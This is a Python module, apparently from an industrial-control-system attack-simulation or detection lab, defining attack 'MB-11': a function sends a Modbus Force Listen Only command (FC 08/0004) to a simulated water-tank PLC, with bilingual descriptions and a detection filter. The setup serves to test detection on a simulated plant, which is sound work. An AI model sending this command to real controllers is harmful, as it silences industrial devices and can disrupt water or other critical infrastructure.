"""MB-11 force listen only: the device obeys, answers nothing any more (nor this request), and its master starves.

Benign twin: none; nobody uses FC 08 in the plant. The PLC comes back after a minute (see plant/modbus_server).
"""

from __future__ import annotations

import time

from ..plant import modbus_client, plc_water
from .base import Act, Attack, text


def force_listen_only() -> None:
    client = modbus_client.connect("plc-water")
    client.diag_force_listen_only(device_id=plc_water.UNIT, no_response_expected=True)
    time.sleep(1)
    client.close()


ATTACK = Attack(
    "MB-11",
    text("强制 Modbus 设备进入只听模式", "A Modbus device is forced to listen only"),
    (
        Act(
            "listen-only",
            "eng",
            "plc-water",
            text(
                "工程师站令水箱 PLC 进入只听模式(FC 08/0004),此后不再应答",
                "The engineering station forces the tank's PLC to listen only (FC 08/0004); it answers no more",
            ),
            "pymodbus",
            "modbus.func_code == 8",
            force_listen_only,
            also=("MB-03", "MB-14", "NET-26", "NET-16", "NET-25"),
        ),
    ),
)
